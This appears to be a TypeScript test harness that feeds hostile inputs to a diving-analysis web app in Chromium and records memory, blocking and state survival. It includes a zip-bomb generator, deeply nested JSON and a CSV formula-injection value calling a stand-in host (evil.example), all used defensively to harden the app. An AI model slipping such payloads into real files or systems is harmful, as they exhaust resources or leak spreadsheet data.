/**
 * `npm run check:hostile [-- --only NAME] [--slow | --slow-only]`: the hostile-input matrix, run in Chromium
 * against the production build. Each input gets a fresh browser that already holds a saved
 * analysis (the "previous state"); the input is given as a user would give it; one line is printed
 * per input: the message the app showed, whether the app and the previous state survived a reload,
 * the renderer's peak memory above idle, and the longest main-thread block (long tasks).
 * `--slow` adds the inputs that need the pose model over whole clips (a clip with no person, the
 * sample padded or doubled side by side), a few minutes each on two cores.
 *
 * Figures, not assertions: the e2e specs (`e2e/hostile.spec.ts`) hold the behaviour.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { strToU8, Zip, ZipDeflate, ZipPassThrough, zipSync } from 'fflate';
import type { Browser, Page } from 'playwright-core';
import { sampleRecord } from '../src/export/pdf/reportFixture.ts';
import { LIBRARY_FORMAT, newLibraryEntry } from '../src/pipeline/analysis/library.ts';
import { serialiseAnalysis } from '../src/pipeline/analysis/record.ts';
import { launchBrowser } from './lib/chromium.ts';
import { buildAndServe } from './lib/serveApp.ts';

const { values: args } = parseArgs({ options: { only: { type: 'string' }, slow: { type: 'boolean', default: false }, 'slow-only': { type: 'boolean', default: false } } });
const root = join(import.meta.dirname, '..');
const scratch = mkdtempSync(join(tmpdir(), 'divejudge-hostile-'));
const PACK_DIR = join(root, 'models/hpmcore-pose-sim');
const SAMPLE = join(root, 'public/samples/sim-407C-10m.mp4');
const GIB = 1024 ** 3;

type Json = Record<string, unknown>;

function write(name: string, content: string | Uint8Array): string {
  const path = join(scratch, name);
  writeFileSync(path, content);
  return path;
}

function analysis(change: (json: Json & { summary: Json; dive: Json; clip: Json }) => void = () => {}): string {
  const json = JSON.parse(serialiseAnalysis(sampleRecord())) as Json & { summary: Json; dive: Json; clip: Json };
  change(json);
  return JSON.stringify(json);
}

function libraryEntry(): Json {
  const n = 4;
  return JSON.parse(
    JSON.stringify(
      newLibraryEntry({
        id: 'lib-1', createdAt: '2026-01-01T00:00:00.000Z', diveNumber: '407C', heightMetres: 10, dd: 3.2, officialScore: 57.6, awards: [],
        clip: { fileName: 'dive.mp4', bytes: 1000, durationSeconds: 0.2, fps: 20, frameCount: n, width: 320, height: 180, codec: 'avc1' },
        pose: { config: 'c', fps: 20, width: 320, height: 180, frameCount: n, joints: Array(n * 48).fill(1), boxes: Array(n * 4).fill(null), scores: Array(n).fill(1), detected: Array(n).fill(1), repaired: Array(n * 16).fill(0) },
        splash: null, stages: { takeOffEnd: 1, entryStart: 3 },
      }),
    ),
  ) as Json;
}

function libraryZip(change: (entry: Json & { clip: Json; record: Json }) => void, extra: Record<string, Uint8Array> = {}): Uint8Array {
  const entry = libraryEntry() as Json & { clip: Json; record: Json };
  change(entry);
  return zipSync({ 'library.json': strToU8(JSON.stringify({ format: LIBRARY_FORMAT, exportedAt: '2026-01-02T00:00:00.000Z', entries: [entry] })), ...extra });
}

/** A zip with `files` as they are plus `bombName` holding `gib` GiB of zeros, deflated as it streams (a few MB). */
function zipWithBomb(files: Record<string, Uint8Array>, bombName: string, gib: number): Uint8Array {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, chunk) => {
    if (error) throw error;
    chunks.push(chunk);
  });
  for (const [name, bytes] of Object.entries(files)) {
    const entry = new ZipPassThrough(name);
    zip.add(entry);
    entry.push(bytes, true);
  }
  const bomb = new ZipDeflate(bombName, { level: 9 });
  zip.add(bomb);
  const block = new Uint8Array(16 * 1024 * 1024);
  const blocks = Math.round((gib * GIB) / block.length);
  for (let i = 0; i < blocks; i++) bomb.push(block, i === blocks - 1);
  zip.end();
  const out = new Uint8Array(chunks.reduce((a, c) => a + c.length, 0));
  let at = 0;
  for (const c of chunks) {
    out.set(c, at);
    at += c.length;
  }
  return out;
}

function packFiles(): Record<string, Uint8Array> {
  const manifest = JSON.parse(readFileSync(join(PACK_DIR, 'manifest.json'), 'utf8')) as { files: Record<string, unknown> };
  const files: Record<string, Uint8Array> = { 'manifest.json': readFileSync(join(PACK_DIR, 'manifest.json')) };
  for (const name of Object.keys(manifest.files)) files[name] = readFileSync(join(PACK_DIR, name));
  return files;
}

/** A flag that marks this run's browser process, so memory is read from its processes only (other Chromiums may be running). */
const BROWSER_MARK = `--divejudge-check-hostile=${process.pid}`;

/**
 * Resident memory of this run's Chromium, bytes: its renderer processes (the page's JS heap, array
 * buffers, workers and DOM live there) and all its processes (GPU, utility — video decoding may
 * run there — included).
 */
function browserRss(): { renderer: number; all: number } {
  const out = execFileSync('ps', ['-eo', 'pid=,ppid=,rss=,args='], { encoding: 'utf8', maxBuffer: 16 * 1024 * 1024 });
  const rows = out.split('\n').map((line) => line.trim().match(/^(\d+)\s+(\d+)\s+(\d+)\s+(.*)$/)).filter((m): m is RegExpMatchArray => m !== null).map((m) => ({ pid: Number(m[1]), ppid: Number(m[2]), rss: Number(m[3]) * 1024, args: m[4] ?? '' }));
  const ours = new Set(rows.filter((r) => r.args.includes(BROWSER_MARK) && !r.args.includes('--type=')).map((r) => r.pid));
  // Descendants of the browser process (zygotes, then renderers).
  for (let grew = true; grew; ) {
    grew = false;
    for (const r of rows) {
      if (!ours.has(r.pid) && ours.has(r.ppid)) {
        ours.add(r.pid);
        grew = true;
      }
    }
  }
  const sum = (keep: (r: (typeof rows)[number]) => boolean) => rows.filter((r) => ours.has(r.pid) && keep(r)).reduce((total, r) => total + r.rss, 0);
  return { renderer: sum((r) => r.args.includes('--type=renderer')), all: sum(() => true) };
}

interface Input {
  name: string;
  slow?: boolean;
  /** Gives the input; returns the selector of the element whose text is the app's message. */
  give(page: Page): Promise<string>;
}

const importJson = (name: string, text: string) => async (page: Page) => {
  await page.getByTestId('import-analysis-input').setInputFiles(write(name, text));
  return '[data-testid="session-error"], [data-testid="session-message"]';
};
const importLibrary = (name: string, bytes: () => Uint8Array) => async (page: Page) => {
  await page.getByTestId('library-import-input').setInputFiles(write(name, bytes()));
  return '[data-testid="library-error"], [data-testid="library-message"]';
};
const clipAndAnalysis = (name: string, make: () => string, dive = '407C', height = '10m') => async (page: Page) => {
  await page.getByTestId('dive-height').selectOption(height);
  await page.getByTestId('dive-code').fill(dive);
  await page.getByTestId('file-input').setInputFiles(make());
  await page.waitForFunction(() => ['scored', 'encoded', 'error'].includes(document.querySelector('[data-testid="analysis-panel"]')?.getAttribute('data-status') ?? ''), undefined, { timeout: 600_000, polling: 250 });
  return '[data-testid="analysis-notice"], [data-testid="analysis-error"], [data-testid="score-panel"] [data-testid="predicted-score"], [data-testid="score-bounded"]';
};
const ffmpeg = (name: string, ...ffArgs: string[]) => () => {
  const out = join(scratch, name);
  if (!existsSync(out)) execFileSync('ffmpeg', ['-v', 'error', '-y', ...ffArgs, out]);
  return out;
};

const INPUTS: Input[] = [
  { name: 'analysis: summary.uncertainty "lots"', give: importJson('a1.json', analysis((j) => (j.summary.uncertainty = 'lots'))) },
  { name: 'analysis: summary.band an object', give: importJson('a2.json', analysis((j) => (j.summary.band = { x: 1 }))) },
  { name: 'analysis: summary.stages null', give: importJson('a3.json', analysis((j) => (j.summary.stages = null))) },
  {
    name: 'stored by an older version: broken summary, reopened at start',
    give: async (page) => {
      const broken = { ...JSON.parse(analysis()), id: 'broken-stored', summary: { ...(JSON.parse(analysis()) as { summary: Json }).summary, uncertainty: 'lots' } };
      await page.evaluate(async (value) => {
        const request = indexedDB.open('divejudge', 1);
        const db = await new Promise<IDBDatabase>((resolve, reject) => {
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        await new Promise<void>((resolve) => {
          const tx = db.transaction('analyses', 'readwrite');
          tx.objectStore('analyses').put(value);
          tx.oncomplete = () => resolve();
        });
        db.close();
        localStorage.setItem('divejudge.lastAnalysis', 'broken-stored');
      }, broken);
      await page.reload();
      await page.getByTestId('saved-damaged').waitFor({ timeout: 30_000 });
      return '[data-testid="session-error"]';
    },
  },
  { name: 'library: entries[0].clip.fileName an object', give: importLibrary('l1.zip', () => libraryZip((e) => (e.clip.fileName = { x: 1 }))) },
  { name: 'library: official score 999', give: importLibrary('l2.zip', () => libraryZip((e) => (e.record.officialScore = 999))) },
  { name: 'library: official score −1 000 000', give: importLibrary('l3.zip', () => libraryZip((e) => (e.record.officialScore = -1e6))) },
  {
    name: 'library: an entry whose clip is 1 GB of zeros (zip bomb)',
    give: importLibrary('l5.zip', () => {
      const entry = libraryEntry();
      return zipWithBomb({ 'library.json': strToU8(JSON.stringify({ format: LIBRARY_FORMAT, exportedAt: '2026-01-02T00:00:00.000Z', entries: [entry] })) }, 'clips/lib-1', 1);
    }),
  },
  {
    name: 'baseline: the bundled pack as a plain zip',
    give: async (page) => {
      await page.getByTestId('pack-zip-input').setInputFiles(write('p0.zip', zipSync(packFiles())));
      await page.waitForFunction(() => document.querySelector('[data-testid="pack-error"]') || document.querySelector('[data-testid="pack-select"]'), undefined, { timeout: 120_000 });
      return '[data-testid="pack-error"], [data-testid="pack-select"]';
    },
  },
  {
    name: 'pack zip: the bundled pack + 1 GB of zeros unlisted',
    give: async (page) => {
      await page.getByTestId('pack-zip-input').setInputFiles(write('p1.zip', zipWithBomb(packFiles(), 'padding.bin', 1)));
      await page.waitForFunction(() => document.querySelector('[data-testid="pack-error"]') || document.querySelector('[data-testid="pack-select"]'), undefined, { timeout: 120_000 });
      return '[data-testid="pack-error"], [data-testid="pack-select"]';
    },
  },
  {
    name: 'pack zip: exemplars.bin replaced by 1 GB of zeros',
    give: async (page) => {
      const files = packFiles();
      delete files['exemplars.bin'];
      await page.getByTestId('pack-zip-input').setInputFiles(write('p2.zip', zipWithBomb(files, 'exemplars.bin', 1)));
      await page.waitForFunction(() => document.querySelector('[data-testid="pack-error"]') || document.querySelector('[data-testid="pack-select"]'), undefined, { timeout: 120_000 });
      return '[data-testid="pack-error"], [data-testid="pack-select"]';
    },
  },
  { name: 'analysis: a saved analysis’s own id, score edited', give: importJson('a4.json', analysis((j) => Object.assign(j, { id: 'previous-state' }) && Object.assign(j.summary, { predictedScore: 86.4, awardEquivalent: 9, awardExact: 9, band: 'Very good', low: 80, high: 90 }))) },
  { name: 'analysis: dive number "=1+2"', give: importJson('a5.json', analysis((j) => (j.dive.code = '=1+2'))) },
  { name: 'analysis: 21 MB file name', give: importJson('a6.json', analysis((j) => (j.clip.fileName = 'x'.repeat(21 * 1024 * 1024)))) },
  { name: 'analysis: 200 000 voters', give: importJson('a7.json', analysis((j) => (j.voters = Array.from({ length: 200_000 }, (_, i) => ({ ...(sampleRecord().voters[0] as object), id: `v${i}` }))))) },
  { name: 'analysis: a 100 000-frame pose', give: importJson('a8.json', analysis((j) => Object.assign(j.clip, { frameCount: 100_000 }))) },
  { name: 'analysis: a 200 000-deep nested array', give: importJson('a9.json', analysis().replace('"voters":[', `"voters":[${'['.repeat(200_000)}${']'.repeat(200_000)},`)) },
  {
    name: 'session CSV: a clip named =HYPERLINK(…)',
    give: async (page) => {
      await page.getByTestId('import-analysis-input').setInputFiles(write('a10.json', analysis((j) => Object.assign(j, { id: 'csv-1' }, { clip: { ...j.clip, fileName: '=HYPERLINK("http://evil.example/"&A2,"Click")' } }))));
      await page.getByTestId('session-message').waitFor();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-session-csv').click()]);
      const path = join(scratch, 'session.csv');
      await download.saveAs(path);
      const cell = readFileSync(path, 'utf8').split('\r\n').find((l) => l.includes('HYPERLINK')) ?? '';
      await page.evaluate((text) => {
        document.body.insertAdjacentHTML('beforeend', '<p id="csv-check"></p>');
        (document.getElementById('csv-check') as HTMLElement).textContent = text;
      }, `CSV row starts its clip cell with ${JSON.stringify(cell.split(',').find((c) => c.includes('HYPERLINK'))?.slice(0, 14) ?? '')}`);
      return '#csv-check';
    },
  },
  {
    name: 'pack claiming "FINA Worlds 2024 (validated)"',
    give: async (page) => {
      const copy = join(scratch, 'claiming');
      cpSync(PACK_DIR, copy, { recursive: true });
      const manifest = JSON.parse(readFileSync(join(copy, 'manifest.json'), 'utf8')) as { version: string; trainedOn: Json };
      Object.assign(manifest, { version: '9.9.9' });
      Object.assign(manifest.trainedOn, { kind: 'dataset', name: 'FINA Worlds 2024 (validated)' });
      writeFileSync(join(copy, 'manifest.json'), JSON.stringify(manifest));
      await page.getByTestId('pack-folder-input').setInputFiles(copy);
      await page.waitForFunction(() => document.querySelector('[data-testid="pack-trained-on"]')?.textContent?.includes('FINA') || document.querySelector('[data-testid="pack-error"]'), undefined, { timeout: 60_000 });
      return '[data-testid="pack-trained-on"], [data-testid="pack-error"]';
    },
  },
  {
    name: 'offline before the first clip: open a local clip',
    give: async (page) => {
      await page.context().setOffline(true);
      await page.getByTestId('file-input').setInputFiles(SAMPLE);
      await page.waitForFunction(() => document.querySelector('[data-testid="clip-error"]') || document.querySelector('[data-testid="video"]'), undefined, { timeout: 60_000 });
      await page.waitForTimeout(3000);
      return '[data-testid="clip-error"], [data-testid="pose-error"], [data-testid="analysis-error"], [data-testid="clip-name"]';
    },
  },
  {
    name: '4K 60 s clip: load, find the diver for 20 s, cancel, step',
    slow: true,
    give: async (page) => {
      const clip = ffmpeg('4k-60s.mp4', '-f', 'lavfi', '-i', 'testsrc2=size=3840x2160:rate=30', '-t', '60', '-pix_fmt', 'yuv420p', '-c:v', 'libx264', '-preset', 'ultrafast', '-crf', '35')();
      await page.getByTestId('file-input').setInputFiles(clip);
      await page.getByTestId('pose-cancel').waitFor({ timeout: 120_000 });
      await page.waitForTimeout(20_000);
      await page.getByTestId('pose-cancel').click();
      for (let i = 0; i < 30; i++) await page.keyboard.press('ArrowRight');
      await page.waitForTimeout(5000);
      return '[data-testid="pose-panel"]';
    },
  },
  { name: '10 s test pattern, no person', slow: true, give: clipAndAnalysis('no-person.mp4', ffmpeg('no-person.mp4', '-f', 'lavfi', '-i', 'testsrc=size=640x360:rate=30', '-t', '10', '-pix_fmt', 'yuv420p', '-c:v', 'libx264')) },
  { name: '407C sample as given', slow: true, give: clipAndAnalysis('plain.mp4', () => SAMPLE) },
  { name: '407C sample padded to 1280×360 (one diver)', slow: true, give: clipAndAnalysis('padded.mp4', ffmpeg('padded.mp4', '-i', SAMPLE, '-vf', 'pad=1280:360:320:0', '-c:v', 'libx264', '-pix_fmt', 'yuv420p')) },
  { name: '407C sample side by side with itself (two divers)', slow: true, give: clipAndAnalysis('double.mp4', ffmpeg('double.mp4', '-i', SAMPLE, '-i', SAMPLE, '-filter_complex', 'hstack', '-c:v', 'libx264', '-pix_fmt', 'yuv420p')) },
];

async function openWithPreviousState(browser: Browser, url: string): Promise<Page> {
  // No service worker: its precache download (45 MB) would share the machine with what is measured.
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, acceptDownloads: true, serviceWorkers: 'block' });
  const page = await context.newPage();
  await page.addInitScript(() => {
    localStorage.setItem('divejudge.settings', JSON.stringify({ state: { inferenceProvider: 'wasm' }, version: 0 }));
    const w = window as unknown as { longestTaskMs: number };
    w.longestTaskMs = 0;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) w.longestTaskMs = Math.max(w.longestTaskMs, entry.duration);
    }).observe({ type: 'longtask', buffered: true });
  });
  await page.goto(url);
  await page.getByTestId('pack-trained-on').waitFor({ timeout: 120_000 });
  // The previous state: one saved analysis.
  await page.getByTestId('import-analysis-input').setInputFiles(write('previous.json', analysis((j) => Object.assign(j, { id: 'previous-state' }))));
  await page.getByTestId('score-panel').waitFor({ timeout: 30_000 });
  return page;
}

async function main(): Promise<void> {
  const served = await buildAndServe();
  const chosen = INPUTS.filter((i) => (args.only ? i.name.includes(args.only) : args['slow-only'] ? i.slow : args.slow || !i.slow));
  console.log(`check:hostile — ${chosen.length} inputs, Chromium, production build${args.slow ? '' : ' (add --slow for the clip inputs)'}\n`);
  console.log(['input', 'app says', 'alive after reload', 'previous kept', 'renderer memory above idle (peak)', 'longest block', 'unclosed-frame warnings'].join(' | '));
  try {
    for (const input of chosen) {
      const browser = await launchBrowser([BROWSER_MARK]);
      try {
        const page = await openWithPreviousState(browser, served.url);
        let unclosed = 0;
        page.on('console', (m) => {
          if (/garbage collected without first being closed/.test(m.text())) unclosed++;
        });
        await page.waitForTimeout(1500);
        await page.evaluate(() => ((window as unknown as { longestTaskMs: number }).longestTaskMs = 0));
        const idle = browserRss();
        const peak = { ...idle };
        const sample = () => {
          const now = browserRss();
          peak.renderer = Math.max(peak.renderer, now.renderer);
          peak.all = Math.max(peak.all, now.all);
        };
        const sampler = setInterval(sample, 100);
        let said = '';
        try {
          const selector = await input.give(page);
          await page.waitForSelector(selector, { timeout: 120_000 });
          await page.waitForTimeout(500);
          said = ((await page.locator(selector).first().textContent()) ?? '').replace(/\s+/g, ' ').trim();
        } catch (error) {
          said = `(no message: ${error instanceof Error ? error.message.split('\n')[0] : String(error)})`;
        } finally {
          clearInterval(sampler);
        }
        sample();
        const longest = await page.evaluate(() => (window as unknown as { longestTaskMs: number }).longestTaskMs).catch(() => Number.NaN);
        await page.context().setOffline(false);
        await page.reload();
        const alive = await page.getByTestId('dive-code').waitFor({ timeout: 60_000 }).then(() => true, () => false);
        const crashed = alive ? await page.getByTestId('panel-crash').count() : 0;
        const previous = alive ? await page.locator('[data-testid="saved-item"][data-id="previous-state"]').count() : 0;
        const mb = (bytes: number) => `${(bytes / 2 ** 20).toFixed(0)} MB`;
        console.log([input.name, said.slice(0, 220), alive && crashed === 0 ? 'yes' : 'NO', previous === 1 ? 'yes' : 'NO', `${mb(peak.renderer - idle.renderer)} (peak ${mb(peak.renderer)}; all its processes peak ${mb(peak.all)})`, `${longest.toFixed(0)} ms`, `${unclosed}`].join(' | '));
      } finally {
        await browser.close();
      }
    }
  } finally {
    await served.close();
    rmSync(scratch, { recursive: true, force: true });
  }
}

await main();
